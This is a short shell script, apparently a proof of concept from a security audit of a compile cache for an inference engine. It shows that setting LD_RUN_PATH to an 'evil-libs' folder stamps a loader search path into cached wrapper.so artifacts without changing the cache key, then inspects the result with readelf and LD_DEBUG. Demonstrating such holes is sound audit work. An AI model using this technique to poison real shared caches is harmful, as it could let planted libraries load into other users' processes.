#!/bin/sh
# Hole: LD_RUN_PATH (read by GNU ld, which AOTInductor's g++ link runs without
# -rpath) is classified "ignored" by ENV_RULES ('*'), so it reaches the compile
# worker: every artifact's wrapper.so gets DT_RUNPATH=$LD_RUN_PATH, under the
# same key as a build without it (bytes differ: wrapper.so and the serialization
# id). In an engine process that has not loaded one of the package's NEEDED
# libraries yet, the loader would search that folder first; in a plain torch
# process all of them (libgomp.so.1 included) are loaded already, so LD_DEBUG
# shows no lookup there: the harm measured is same key, other bytes.
#
# usage: attack/env_ld_run_path.sh   (two warmups of the tiny plan, ~3-5 min each here)
set -e
ROOT=$(cd "$(dirname "$0")/.." && pwd)
T=${T:-/tmp/a4}
mkdir -p "$T"
"$ROOT/attack/warm_tiny.sh" "$T/cache-base"
"$ROOT/attack/warm_tiny.sh" "$T/cache-runpath" LD_RUN_PATH="$T/evil-libs"
"$ROOT/.venv/bin/python" "$ROOT/attack/compare_bundles.py" "$T/cache-base.bundle" "$T/cache-runpath.bundle"
# the RUNPATH the artifact carries
"$ROOT/.venv/bin/python" -c "import glob,sys,zipfile; f=sorted(glob.glob(sys.argv[1]+'/artifacts/*.pt2'))[0]; open(sys.argv[2],'wb').write(zipfile.ZipFile(f).read('model/data/aotinductor/model/kernel_cache.wrapper.so'))" "$T/cache-runpath.bundle" "$T/w.so"
readelf -d "$T/w.so" | grep RUNPATH || true
# whether the engine's loader looks in the folder (LD_DEBUG shows the search)
mkdir -p "$T/evil-libs"
cd "$ROOT" && LD_DEBUG=libs KERNEL_CACHE_DIR="$T/cache-runpath" "$ROOT/.venv/bin/python" -c "
from kernel_cache import load_plan, make_config
load_plan(make_config('attack/tiny/config.json', max_model_len=32, block_size=16,
          max_num_seqs=4, max_num_batched_tokens=32, kv_buckets=(32,)))
" 2>&1 | grep -m3 "evil-libs" || true
